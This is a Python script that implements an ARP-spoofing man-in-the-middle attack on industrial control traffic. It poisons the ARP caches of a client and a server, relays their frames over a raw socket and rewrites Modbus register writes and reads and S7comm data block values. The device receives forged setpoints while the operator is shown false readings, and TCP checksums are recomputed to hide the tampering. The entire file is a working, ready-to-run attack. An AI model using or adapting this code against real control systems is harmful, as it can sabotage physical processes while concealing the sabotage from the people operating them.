"""A man in the middle between a client and a server: lies by ARP, passes on, and changes two values.

    mitm.py CLIENT_IP CLIENT_MAC SERVER_IP SERVER_MAC OWN_MAC PLACE FORGED SHOWN SECONDS

What the client writes to PLACE becomes FORGED, what it is told of it becomes SHOWN. Of Modbus, PLACE is a register
(function 6, its echo, and answers of function 3 that begin at or before it); of S7comm an octet of data block 1 where a
real begins (written alone, and in answers that begin with octet 0). Lengths stay, so sequence numbers do. The kernel
forwards nothing.
"""
import socket
import struct
import sys
import time

client_ip, client_mac, server_ip, server_mac, own_mac, place, forged, shown, seconds = sys.argv[1:]
place, forged, shown = int(place), int(forged), int(shown)
CLIENT, SERVER = socket.inet_aton(client_ip), socket.inet_aton(server_ip)
MAC = {name: bytes.fromhex(text.replace(":", "")) for name, text in
       (("client", client_mac), ("server", server_mac), ("own", own_mac))}

first_address = {}  # transaction -> first register of a read


def lie(to_mac, to_ip, about_ip):
    return (to_mac + MAC["own"] + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, 2)
            + MAC["own"] + about_ip + to_mac + to_ip)


def sum16(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def changed_modbus(payload, to_server):
    """The PDU in a segment that is one whole message, as the man in the middle wants it."""
    transaction, protocol, length = struct.unpack("!HHH", payload[:6])
    if protocol or len(payload) != 6 + length:
        return payload
    function, body = payload[7], payload[8:]
    if function == 6 and struct.unpack("!H", body[:2])[0] == place:
        return payload[:10] + struct.pack("!H", forged if to_server else shown)
    if function == 3 and to_server:
        first_address[transaction] = struct.unpack("!H", body[:2])[0]
    elif function == 3:
        at = 9 + 2 * (place - first_address.get(transaction, place + 1))
        if 9 <= at <= len(payload) - 2:
            return payload[:at] + struct.pack("!H", shown) + payload[at + 2:]
    return payload


def changed_s7comm(payload, to_server):
    """The same of a job or its acknowledgement, with one item."""
    job, acknowledgement, read, write = 1, 3, 4, 5
    if len(payload) < 26 or payload[7] != 0x32:
        return payload
    if to_server and payload[8] == job and payload[17:19] == bytes([write, 1]):
        block, area, address = struct.unpack("!H", payload[25:27])[0], payload[27], payload[28:31]
        if (block, area, int.from_bytes(address, "big")) == (1, 0x84, 8 * place):
            return payload[:-4] + struct.pack("!f", forged)
    if not to_server and payload[8] == acknowledgement and payload[19:21] == bytes([read, 1]):
        at = 25 + place
        if at + 4 <= len(payload):
            return payload[:at] + struct.pack("!f", shown) + payload[at + 4:]
    return payload


CHANGED = {502: changed_modbus, 102: changed_s7comm}


def relayed(frame):
    """What goes on in place of `frame`, or None."""
    source, target = frame[26:30], frame[30:34]
    if frame[:6] != MAC["own"] or frame[12:14] != b"\x08\0" or {source, target} != {CLIENT, SERVER}:
        return None
    to_server = target == SERVER
    end = 14 + struct.unpack("!H", frame[16:18])[0]
    header = 34 + (frame[46] >> 4) * 4
    payload = frame[header:end]
    port = struct.unpack("!H", frame[36:38] if to_server else frame[34:36])[0]
    if len(payload) >= 10 and port in CHANGED:
        payload = CHANGED[port](payload, to_server)
    tcp = frame[34:50] + b"\0\0" + frame[52:header] + payload
    pseudo = source + target + struct.pack("!HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", sum16(pseudo + tcp)) + tcp[18:]
    return MAC["server" if to_server else "client"] + MAC["own"] + frame[12:34] + tcp


wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.bind(("eth0", 0))
wire.settimeout(0.05)
end = time.time() + float(seconds)
next_lie = 0.0
while time.time() < end:
    if time.time() >= next_lie:
        wire.send(lie(MAC["client"], CLIENT, SERVER))
        wire.send(lie(MAC["server"], SERVER, CLIENT))
        next_lie = time.time() + 1
    try:
        frame, address = wire.recvfrom(2048)
    except socket.timeout:
        continue
    if address[2] == socket.PACKET_OUTGOING or len(frame) < 54:
        continue
    if onward := relayed(frame):
        wire.send(onward)
